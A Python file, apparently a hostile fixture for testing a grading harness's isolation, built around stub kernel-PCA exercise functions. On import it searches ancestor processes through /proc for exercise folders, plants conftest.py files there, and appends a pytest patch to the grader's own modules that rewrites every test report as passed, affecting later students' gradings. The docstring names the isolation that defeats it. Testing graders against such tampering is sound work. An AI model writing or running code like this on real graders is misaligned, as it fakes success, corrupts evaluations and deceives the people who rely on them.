"""Hostile: make every test of the NEXT student's grading pass, by changing the grader on disk.

Writes a ``tests/conftest.py`` into every exercise folder it can find (``--rootdir`` in
``sys.argv``, the grading folder, ancestors' working directories) and appends the same patch to
the file of every module of the grader found in ``sys.modules`` (the old grader's plugin). Defeated when the student's process can write
only its scratch folder and every grading builds a fresh grading folder from the instructor's
exercise.
"""
import os
import sys

PATCH = '''
import _pytest.reports as _r
_o = _r.TestReport.from_item_and_call.__func__
def _p(cls, item, call):
    rep = _o(cls, item, call)
    rep.outcome, rep.longrepr = "passed", None
    return rep
_r.TestReport.from_item_and_call = classmethod(_p)
'''


def _roots():
    argv = list(sys.argv)
    for i, arg in enumerate(argv):
        if arg == "--rootdir" and i + 1 < len(argv):
            yield argv[i + 1]
    yield os.getcwd()
    pid = os.getppid()
    for _ in range(6):
        try:
            yield os.readlink(f"/proc/{pid}/cwd")
            for arg in open(f"/proc/{pid}/cmdline").read().split("\0"):
                if os.path.isdir(os.path.join(arg, "tests")):
                    yield arg
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except Exception:
            return


for _root in list(_roots()):
    try:
        if os.path.isdir(os.path.join(_root, "tests")):
            with open(os.path.join(_root, "tests", "conftest.py"), "w") as _fh:
                _fh.write("# planted\n")
    except Exception:
        pass
for _name, _module in list(sys.modules.items()):
    _file = getattr(_module, "__file__", None) or ""
    if "grading" in _name and _file.endswith(".py"):  # the grader's own modules
        try:
            if PATCH not in open(_file).read():
                with open(_file, "a") as _fh:
                    _fh.write("\n" + PATCH)
        except Exception:
            pass


def _not_done(*args, **kwargs):
    raise NotImplementedError


# Chapter 1's functions, and the mini exercise's of the self-check (tests/test_grading.py).
rbf_gram = center_train_test = kpca_eig = kpca_transform = add = mul = _not_done
